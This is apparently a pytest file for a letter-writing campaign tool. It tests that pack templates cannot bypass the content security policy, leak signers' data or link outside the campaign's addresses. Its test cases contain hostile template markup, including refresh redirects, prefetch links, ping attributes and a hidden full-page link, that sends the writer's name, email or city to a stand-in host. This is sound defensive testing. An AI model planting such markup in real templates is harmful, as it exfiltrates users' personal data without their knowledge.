"""A pack's HTML and PDF: the content security policy in the real head, links only to
the campaign's own addresses, nesting measured on the parsed tree."""


from __future__ import annotations

import re
import shutil
from pathlib import Path
from urllib.parse import quote

import pytest
from catalogue import (
    LETTER,
    LETTER_PDF,
    LETTER_TXT,
    ME,
    Cli,
    _csp_first,
    layout,
    page,
    signers,
)

from helpers import personal_data

_HEAD_TRICKS = [
    '<!DOCTYPE html><!--<head>--><html lang="en"><head><title>t</title>',
    '<!DOCTYPE html><html lang="en"><img src="http://t.example/a.gif" alt=""><head>'
    "<title>t</title>",
    '<!DOCTYPE html><html lang="en"><head data-x="<head>"><title>t</title>',
    '<!DOCTYPE html><template><head></template><html lang="en"><head><title>t</title>',
    '<!DOCTYPE html><html lang="en"><script type="text/x"><head></script><head>'
    "<title>t</title>",
    '<html lang="en"><head><title>t</title>',
]


@pytest.mark.parametrize("start", _HEAD_TRICKS)
def test_csp_is_in_the_real_head_whatever_the_layout(cli: Cli, start: str) -> None:
    """A string search for '<head' put the policy inside a comment, an attribute or a
    template; a browser then loaded the pack's images freely."""
    layout(cli.root, start + '</head><body><img src="http://t.example/p.gif" alt="">'
           "{{ bodies|join }}</body></html>")
    result = cli.invoke(*LETTER, *ME, "-f", "html")
    if result.exit_code == 2:  # refusing the layout outright is fine too
        assert result.stdout == ""
        return
    assert result.exit_code == 0, result.stderr
    assert _csp_first(result.stdout), result.stdout[:300]


def _index_pack(root: Path, body: str) -> None:
    layout(root, page(body), "index.html.j2")


def test_a_packs_index_gets_the_policy_and_no_letter_text(cli: Cli) -> None:
    """A pack's own index.html.j2 had no policy, and every letter's text in its context."""
    rows = signers(cli.root, "valid.csv")
    _index_pack(cli.root, "{% for l in letters %}<p>{{ l }}</p>{% endfor %}")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", rows, "-o", "site",
                        "--formats", "txt", "--no-documents")
    assert result.exit_code == 0, result.stderr
    html = (cli.root / "site" / "kazakhstan-2022" / "index.html").read_text(encoding="utf-8")
    assert _csp_first(html)
    assert "letters/00001-president.txt" in html  # the links are there
    assert "mailto:" not in html
    for value in personal_data("valid.csv"):
        for form in (value, quote(value), quote(value, safe="")):
            assert form not in html


@pytest.mark.parametrize(("markup", "expect"), [
    ('<meta http-equiv="refresh" content="0;url=https://t.example/?{{ writer.name|urlencode }}">',
     "refresh"),
    ('<META HTTP-EQUIV="Refresh" CONTENT="1; URL=https://t.example/">', "refresh"),
    ('<link rel="dns-prefetch" href="//t.example">', "<link>"),
    ('<link rel="preconnect" href="https://t.example">', "<link>"),
    ('<link rel="stylesheet" href="HTTP://t.example/s.css">', "<link>"),
    ('<a href="https://t.example/?n={{ writer.name|urlencode }}">x</a>', "does not name"),
    ('<a href="https://www.ohchr.org/x" ping="https://t.example/p">x</a>', "does not name"),
    ('<form action="https://t.example/"><button>send</button></form>', "does not name"),
    ('<a href="mailto:t@t.example?body={{ writer.email|urlencode }}">x</a>', "does not name"),
    ('<a href="//t.example/{{ writer.city|urlencode }}">x</a>', "does not name"),
])
def test_pack_html_cannot_send_the_reader_elsewhere(cli: Cli, markup: str,
                                                          expect: str) -> None:
    """The policy stops loads, not a refresh, a DNS prefetch or a click: a pack's page
    may link only to addresses its campaign file names."""
    layout(cli.root, page(markup + "{{ bodies|join }}"))
    cli.refused(*LETTER, *ME, "-f", "html", expect=re.compile(re.escape(expect)))


def test_pack_pdf_links_only_to_the_campaigns_addresses(cli: Cli) -> None:
    """A transparent full-page link in a pack layout sent the writer's data in one click."""
    link = ('<a style="position:absolute;top:0;left:0;width:100%;height:100%" '
            'href="https://t.example/?n={{ writer.name|urlencode }}"></a>')
    layout(cli.root, page(link + "{{ bodies|join }}"))
    cli.refused(*LETTER_PDF, expect=re.compile(r"letter\.html\.j2: .*does not name"))


def test_pack_may_still_link_to_the_campaigns_own_addresses(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^as_of:", "url: https://example.org/kz\nas_of:", text, count=1)
    campaign.write_text(text, encoding="utf-8")
    layout(cli.root, page('<a href="https://example.org/kz">campaign</a>{{ bodies|join }}'))
    result = cli.invoke(*LETTER, *ME, "-f", "html")
    assert result.exit_code == 0, result.stderr
    assert 'href="https://example.org/kz"' in result.stdout
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr


def test_nesting_is_measured_on_the_parsed_tree(cli: Cli) -> None:
    """'<span><div></span>' counts as two tags but nests twice as deep in a browser's tree."""
    layout(cli.root, page("<span><div></span>" * 60 + "{{ bodies|join }}"))
    cli.refused(*LETTER_PDF, expect=re.compile(r"nested too deeply"))


def test_a_linked_templates_folder_is_refused(cli: Cli, tmp_path: Path) -> None:
    """templates/ -> elsewhere made any folder the pack's templates (and -> / gave exit 1)."""
    shutil.rmtree(cli.root / "pack" / "templates")
    (cli.root / "pack" / "templates").symlink_to("/")
    cli.refused(*LETTER_TXT, expect=re.compile(r"templates: refused: the templates folder "
                                               r"is a link"))
    (cli.root / "pack" / "templates").unlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (cli.root / "pack" / "templates").symlink_to(elsewhere)
    cli.refused(*LETTER_TXT, expect=re.compile(r"the templates folder is a link"))


